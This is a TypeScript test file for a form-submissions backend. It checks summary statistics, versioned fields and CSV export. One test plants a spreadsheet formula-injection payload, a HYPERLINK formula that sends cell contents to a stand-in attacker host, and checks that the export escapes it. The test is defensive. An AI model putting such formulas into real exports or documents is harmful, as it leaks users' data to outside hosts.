import { sql } from 'kysely'
import { describe, expect, it } from 'vitest'
import type { Output } from '#shared/api/endpoint.ts'
import type { submissions } from '#shared/features/forms/submissions-contract.ts'
import { client, staff, withDesk } from '#tests/support/desk-fixtures.ts'
import { app, db } from '#tests/support/fixtures.ts'
import { anOpenJob, jobForm, openMarket } from '#tests/support/market.ts'
import {
  aContactForm,
  aSubmission,
  contactFields,
  listOf,
  publishVersion,
  sara,
  sendAnswers,
} from '#tests/support/submissions.ts'

type Summary = Output<(typeof submissions)['GET /submissions/forms/{form}/summary']>

withDesk()

const summaryOf = async (slug: string, query = '') =>
  (await app.call<Summary>(`GET /submissions/forms/${slug}/summary${query}`, { token: staff.token })).body

describe('figures', () => {
  it('count choices, measure numbers, average ratings, show the newest texts, and leave spam out', async () => {
    const slug = await aContactForm(app)
    for (const [at, rooms] of [1, 2, 3, 10].entries())
      await aSubmission(app, slug, { name: `N${at}`, about: at < 3 ? 'job' : 'bill', mark: at + 2, rooms })
    await sendAnswers(app, slug, { name: 'Bot', rooms: 900, about: 'bill' }, { body: { website: 'x' } })
    const { total, fields } = await summaryOf(slug)
    const field = (key: string) => fields.find(one => one.key === key)
    expect(total).toBe(4)
    expect(field('about')?.choices.map(({ value, count }) => [value, count])).toEqual([
      ['job', 3],
      ['bill', 1],
    ])
    const [rooms] = field('rooms')?.figures ?? []
    expect(rooms).toMatchObject({ count: 4, min: 1, max: 10, median: 2.5, average: 4 })
    expect(rooms?.buckets.map(({ count }) => count)).toEqual([2, 1, 0, 0, 0, 0, 0, 1])
    expect(field('mark')?.figures[0]).toMatchObject({ average: 3.5, count: 4, buckets: [] })
    expect(field('mark')?.choices.map(({ value, count }) => [value, count])).toEqual([
      ['5', 1],
      ['4', 1],
      ['3', 1],
      ['2', 1],
      ['1', 0],
    ])
    expect(field('name')?.newest.map(({ text }) => text)).toEqual(['N3', 'N2', 'N1', 'N0'])
    expect((await summaryOf(slug, '?q=N3')).total).toBe(1)
  })

  it('follow the newest version, and list removed fields last', async () => {
    const slug = await aContactForm(app)
    await aSubmission(app, slug, { ...sara, about: 'job' })
    const city = { key: 'city', type: 'text', label: { en: 'City', fr: 'Ville', ar: 'مدينة' } }
    await publishVersion(app, slug, 2, [city, { ...contactFields[0], required: false }])
    const { fields } = await summaryOf(slug)
    expect(fields.map(({ key, removed }) => [key, removed])).toEqual([
      ['city', false],
      ['name', false],
      ['email', true],
      ['about', true],
      ['mark', true],
      ['rooms', true],
      ['papers', true],
    ])
    expect(fields.find(({ key }) => key === 'about')?.choices[0]).toMatchObject({ value: 'job', count: 1 })
  })
})

describe('the export', () => {
  const csvOf = async (slug: string, query = '') => {
    const reply = await app.get(`/api/submissions/forms/${slug}/export${query}`, {
      authorization: `Bearer ${staff.token}`,
    })
    const bytes = Buffer.from(await reply.arrayBuffer())
    return { reply, bytes, lines: bytes.toString('utf8').slice(1).split('\r\n') }
  }

  it('is a CSV file for spreadsheets: UTF-8 with BOM, a column for each field of any version, labels for choices', async () => {
    const slug = await aContactForm(app)
    await aSubmission(app, slug, { name: 'سارة العمراني', about: 'job', rooms: 3 })
    const city = { key: 'city', type: 'text', label: { en: 'City', fr: 'Ville', ar: 'مدينة' } }
    await publishVersion(app, slug, 2, [city, contactFields[0] as object])
    await sendAnswers(app, slug, { ...sara, city: 'Fès, "la vieille"' }, { body: { version: 2 } })
    const { reply, bytes, lines } = await csvOf(slug, '?in=fr')
    expect(reply.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(reply.headers.get('content-disposition')).toContain(`attachment; filename="${slug}-`)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(lines[0]).toContain('Envoyée à (UTC),Statut,Langue,Version')
    expect(lines[0]).toMatch(/,Ville,Name \(fr\),E-mail \(fr\),About \(fr\),Mark \(fr\),Rooms \(fr\),Papers \(fr\)$/)
    expect(lines[1]).toContain('"Fès, ""la vieille""",Sara,,,,,')
    expect(lines[2]).toContain(',سارة العمراني,,A job (fr),,3,')
    expect(lines).toHaveLength(4)
  })

  it('attack: formulas in answers', async () => {
    const slug = await aContactForm(app)
    const formula = '=HYPERLINK("https://evil.test?"&A1,"Click")'
    await aSubmission(app, slug, { name: formula, rooms: -5 })
    const { lines } = await csvOf(slug)
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.test?""&A1,""Click"")"`)
    expect(lines[1]).toContain(',-5,')
  })

  it('reads every row once over many batches, in the order of the list', async () => {
    const slug = await aContactForm(app)
    const form = await db().selectFrom('forms').select('id').where('slug', '=', slug).executeTakeFirstOrThrow()
    // Timestamps within one millisecond, and equal timestamps: no row is skipped or repeated.
    await sql`
      insert into form_submissions (id, form_id, version, answers, language, status, created_at, updated_at)
      select gen_random_uuid(), ${form.id}, 1, jsonb_build_object('name', 'N' || n), 'en', 'new', moment, moment
      from (select n, '2026-01-01T00:00:00Z'::timestamptz + (n / 2) * interval '7 microseconds' as moment
        from generate_series(0, 1299) as n) as rows`.execute(db())
    const { lines } = await csvOf(slug)
    const names = lines.slice(1, -1).map(line => /,(N\d+),/.exec(line)?.[1])
    expect(names).toHaveLength(1300)
    expect(new Set(names).size).toBe(1300)
    expect(['N1299', 'N1298']).toContain(names[0])
    expect(['N0', 'N1']).toContain(names.at(-1))
  })
})

it('the list and figures of a job form count its jobs', async () => {
  await openMarket(app)
  const job = await anOpenJob(app, client, staff)
  const list = await listOf(app, staff, 'plumbing-job')
  expect(list.items).toMatchObject([{ id: job, job, status: 'converted', person: { id: client.id } }])
  const { fields } = await summaryOf('plumbing-job')
  expect(fields[0]?.choices[0]).toMatchObject({ value: jobForm.answers.kind, count: 1 })
})
